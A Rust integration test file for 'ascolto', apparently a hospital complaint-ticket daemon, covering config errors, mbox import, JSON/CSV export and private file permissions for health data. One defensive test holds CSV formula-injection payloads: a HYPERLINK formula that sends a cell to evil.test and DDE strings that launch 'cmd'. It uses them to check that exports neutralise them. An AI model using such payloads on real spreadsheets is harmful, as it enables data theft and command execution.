//! The command line as an administrator uses it: config errors, migrate, import, export.

mod common;

use std::process::Output;

use common::{fixture, repo, Daemon};

const VALID: &str = r#"
[database]
path = "DB"

[[mailbox]]
name = "urp"
host = "127.0.0.1"
port = 143
security = "none"
username = "urp@hospital.test"
password = "secret"
"#;

fn daemon(config: &str) -> Daemon {
    Daemon::new(|db| config.replace("DB", &db.display().to_string()))
}

fn run(d: &Daemon, args: &[&str]) -> Output {
    d.command().args(args).output().unwrap()
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

#[test]
fn check_config_accepts_a_valid_file() {
    let d = daemon(VALID);
    let out = run(&d, &["check-config"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(String::from_utf8_lossy(&out.stdout).contains("valid"));
}

#[test]
fn a_config_typo_fails_with_the_key_named() {
    let d = daemon(&VALID.replace(
        "security = \"none\"",
        "security = \"none\"\npoll_intervall_secs = 5",
    ));
    let out = run(&d, &["check-config"]);
    assert!(!out.status.success());
    let e = stderr(&out);
    assert!(
        e.contains("poll_intervall_secs") && e.contains("mailbox[0]"),
        "{e}"
    );

    let d = daemon(&VALID.replace("port = 143", "port = \"centoquarantatre\""));
    let e = stderr(&run(&d, &["serve"]));
    assert!(e.contains("mailbox[0].port"), "{e}");

    let d = daemon(&VALID.replace("password = \"secret\"", ""));
    let e = stderr(&run(&d, &["serve"]));
    assert!(e.contains("ASCOLTO__MAILBOX__0__PASSWORD"), "{e}");
}

#[test]
fn environment_overrides_reach_the_daemon() {
    let d = daemon(&VALID.replace("password = \"secret\"", ""));
    let out = d
        .command()
        .arg("check-config")
        .env("ASCOLTO__MAILBOX__0__PASSWORD", "from-env")
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    // The shipped config.toml is complete once a password is given.
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_ascolto"))
        .args([
            "--config",
            repo().join("config.toml").to_str().unwrap(),
            "check-config",
        ])
        .env("ASCOLTO__MAILBOX__0__PASSWORD", "x")
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
}

#[test]
fn a_missing_config_file_says_which() {
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_ascolto"))
        .args(["--config", "/nonexistent/ascolto.toml", "check-config"])
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert!(stderr(&out).contains("/nonexistent/ascolto.toml"));
}

#[test]
fn import_an_mbox_then_export_json_and_csv() {
    // The archive is an export of the PEC box: its envelopes are unwrapped.
    let d = daemon(&format!(
        "{VALID}\n[[mailbox]]\nname = \"pec\"\nhost = \"127.0.0.1\"\nport = 143\nsecurity = \"none\"\n\
         username = \"pec@hospital.test\"\npassword = \"secret\"\npec = true\n"
    ));
    let out = run(&d, &["migrate"]);
    assert!(out.status.success(), "{}", stderr(&out));

    let mut mbox = Vec::new();
    for name in [
        "plain.eml",
        "pec-envelope.eml",
        "utf-8.eml",
        "malformed.eml",
    ] {
        mbox.extend_from_slice(b"From MAILER-DAEMON Thu Jan 15 09:30:06 2026\n");
        for line in fixture(name).split_inclusive(|&b| b == b'\n') {
            if line.starts_with(b"From ") {
                mbox.push(b'>');
            }
            mbox.extend_from_slice(line);
        }
        mbox.extend_from_slice(b"\n");
    }
    let path = d.dir.path().join("archive.mbox");
    std::fs::write(&path, &mbox).unwrap();
    let out = run(&d, &["import", "--mailbox", "pec", path.to_str().unwrap()]);
    assert!(out.status.success(), "{}", stderr(&out));
    let said = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(
        said.contains("3 new tickets") && said.contains("1 quarantined"),
        "{said}"
    );
    // Importing again changes nothing.
    let again = String::from_utf8_lossy(
        &run(&d, &["import", "--mailbox", "pec", path.to_str().unwrap()]).stdout,
    )
    .into_owned();
    assert!(
        again.contains("0 new tickets") && again.contains("4 duplicates"),
        "{again}"
    );

    let tickets = d.export_tickets();
    assert_eq!(tickets.len(), 3);
    for t in &tickets {
        for key in [
            "number",
            "state",
            "kind",
            "category",
            "service",
            "citizen_email",
            "citizen_name",
            "subject",
            "received_at",
            "due_at",
            "pec",
            "inbound_messages",
            "messages",
        ] {
            assert!(t.get(key).is_some(), "exported ticket lacks {key}: {t}");
        }
    }
    let pec = tickets.iter().find(|t| t["pec"] == true).unwrap();
    assert_eq!(pec["received_at"], "2026-01-15T08:30:05Z");
    let q = d.export_quarantine();
    assert_eq!(q.len(), 1);
    for key in ["id", "received_at", "reason", "size"] {
        assert!(q[0].get(key).is_some(), "quarantine item lacks {key}");
    }

    let csv = run(&d, &["export", "tickets", "--format", "csv"]);
    assert!(csv.status.success());
    let text = String::from_utf8(csv.stdout).unwrap();
    let mut lines = text.lines();
    assert!(lines
        .next()
        .unwrap()
        .starts_with("number,state,kind,category,"));
    assert_eq!(lines.count(), 3);
}

#[test]
fn export_refuses_a_database_that_does_not_exist() {
    let d = daemon(VALID);
    let out = run(&d, &["export", "tickets"]);
    assert!(!out.status.success());
    assert!(stderr(&out).contains("ascolto.sqlite3"), "{}", stderr(&out));
}

/// Every cell of a CSV, parsed as a spreadsheet would read it.
fn csv_cells(text: &str, delimiter: u8) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .delimiter(delimiter)
        .has_headers(false)
        .flexible(true)
        .comment(Some(b'#'))
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

/// No cell would run as a formula in Excel or LibreOffice: none begins with `=`, `+`, `-`, `@`,
/// a tab or a carriage return, but a plain number.
fn assert_no_formula(cells: &[Vec<String>]) {
    for cell in cells.iter().flatten() {
        let number = cell.parse::<f64>().is_ok() || cell.replace(',', ".").parse::<f64>().is_ok();
        assert!(
            number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a formula in the CSV: {cell:?}"
        );
    }
}

/// Issue 11, finding 10: `export tickets --format csv` wrote a citizen's name
/// `=HYPERLINK(…)` and a subject `=cmd|' /C calc'!A0` as they came.
#[test]
fn csv_exports_never_carry_a_formula() {
    let d = daemon(VALID);
    let hyperlink = r#"=HYPERLINK("http://evil.test/?"&A1,"Apri il referto")"#;
    let dde = "=cmd|' /C calc'!A0";
    let raw = format!(
        "From: \"=HYPERLINK(\\\"http://evil.test/?\\\"&A1,\\\"Apri il referto\\\")\" <mario@example.test>\r\n\
To: urp@hospital.test\r\nSubject: {dde}\r\nDate: Mon, 02 Mar 2026 10:00:00 +0100\r\n\
Message-ID: <csv-1@example.test>\r\nContent-Type: text/plain; charset=UTF-8\r\n\r\nTesto.\r\n"
    );
    let inbox = d.dir.path().join("inbox");
    std::fs::create_dir(&inbox).unwrap();
    std::fs::write(inbox.join("1.eml"), raw).unwrap();
    std::fs::write(
        inbox.join("2.eml"),
        common::complaint(
            "+39 333 1234567 <anna@example.test>",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "x",
        ),
    )
    .unwrap();
    let out = run(&d, &["import", inbox.to_str().unwrap()]);
    assert!(out.status.success(), "{}", stderr(&out));
    // JSON carries the data as it came (it is data, not a spreadsheet).
    let t = d.export_tickets();
    assert_eq!(t[0]["citizen_name"], hyperlink);
    assert_eq!(t[0]["subject"], dde);

    let out = run(&d, &["export", "tickets", "--format", "csv"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let cells = csv_cells(&String::from_utf8(out.stdout).unwrap(), b',');
    let column = |name: &str| cells[0].iter().position(|h| h == name).unwrap();
    let row = &cells[1];
    assert_eq!(row[column("citizen_name")], format!("'{hyperlink}"));
    assert_eq!(row[column("subject")], format!("'{dde}"));
    assert_eq!(cells[2][column("subject")], "'@SUM(1+1)*cmd|' /C calc'!A0");
    // Numbers and flags stay what they are.
    assert_eq!(row[column("inbound_messages")], "1");
    assert_eq!(row[column("pec")], "false");
    assert_no_formula(&cells);
    for what in ["outbox", "quarantine"] {
        let out = run(&d, &["export", what, "--format", "csv"]);
        assert!(out.status.success(), "{}", stderr(&out));
        assert_no_formula(&csv_cells(&String::from_utf8(out.stdout).unwrap(), b','));
    }
}

/// `ascolto ARGS` with the daemon's settings, run by `sh` under umask 022: what a shell of an
/// administrator (or a unit without `UMask=`) gives.
fn under_umask_022(d: &Daemon, args: &[&str]) -> std::process::Command {
    let inner = d.command();
    let mut c = std::process::Command::new("sh");
    c.arg("-c")
        .arg("umask 022 && exec \"$@\"")
        .arg("sh")
        .arg(inner.get_program())
        .args(inner.get_args())
        .args(args)
        .stdin(std::process::Stdio::null());
    for (k, v) in inner.get_envs() {
        match v {
            Some(v) => c.env(k, v),
            None => c.env_remove(k),
        };
    }
    c
}

fn mode(path: &std::path::Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(path)
        .unwrap_or_else(|e| panic!("{}: {e}", path.display()))
        .permissions()
        .mode()
        & 0o777
}

/// Kills the daemon it holds when dropped (a failed assertion included).
struct Running(std::process::Child);

impl Drop for Running {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// Issue 11, finding 11: under umask 022 the database, `ascolto backup`'s copies and the file
/// mailer's `.eml` files were 0644: health data readable by every local user.
#[test]
fn health_data_files_are_private_whatever_the_umask() {
    let d = Daemon::new(|db| {
        format!(
            "[database]\npath = \"{}\"\n\n[smtp]\nbackend = \"file\"\nfile_dir = \"{}\"\nfrom_address = \"urp@hospital.test\"\n",
            db.display(),
            db.parent().unwrap().join("sent").display()
        )
    });
    let ok = |c: &mut std::process::Command| {
        let out = c.output().unwrap();
        assert!(out.status.success(), "{}", stderr(&out));
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    // The shell really runs with umask 022.
    let probe = d.dir.path().join("probe");
    ok(std::process::Command::new("sh")
        .arg("-c")
        .arg("umask 022 && touch \"$0\"")
        .arg(&probe));
    assert_eq!(mode(&probe), 0o644);

    ok(&mut under_umask_022(&d, &["migrate"]));
    assert_eq!(mode(&d.db_path()), 0o600, "the database");

    // The daemon's -wal and -shm, while it runs.
    let child = d
        .hand_over(under_umask_022(&d, &["serve"]))
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let serving = Running(child);
    common::http::Client::wait_ready(&d.base_url());
    for suffix in ["-wal", "-shm"] {
        let mut name = d.db_path().into_os_string();
        name.push(suffix);
        assert_eq!(mode(std::path::Path::new(&name)), 0o600, "{suffix}");
    }

    // The file mailer's mail.
    ok(&mut under_umask_022(
        &d,
        &["send-test-email", "citizen@example.test"],
    ));
    let sent = d.dir.path().join("sent");
    let eml: Vec<_> = std::fs::read_dir(&sent)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    assert_eq!(eml.len(), 1, "{eml:?}");
    assert_eq!(mode(&eml[0]), 0o600, "{}", eml[0].display());
    assert_eq!(mode(&sent), 0o700, "the folder it made");

    // A backup, while the daemon runs.
    let copies = d.dir.path().join("copie");
    ok(&mut under_umask_022(
        &d,
        &["backup", &format!("{}/", copies.display())],
    ));
    let copy = std::fs::read_dir(&copies)
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| p.extension().is_some_and(|e| e == "sqlite3"))
        .unwrap();
    assert_eq!(mode(&copy), 0o600, "the backup");
    assert_eq!(mode(&copies), 0o700, "the folder it made");
    drop(serving);

    // A restore makes the database anew: private too.
    ok(&mut under_umask_022(
        &d,
        &["restore", copy.to_str().unwrap()],
    ));
    assert_eq!(mode(&d.db_path()), 0o600, "the restored database");

    // A database an older ascolto made 0644 is closed to others when opened.
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(d.db_path(), std::fs::Permissions::from_mode(0o644)).unwrap();
    }
    ok(&mut under_umask_022(&d, &["migrate"]));
    assert_eq!(mode(&d.db_path()), 0o640);
}
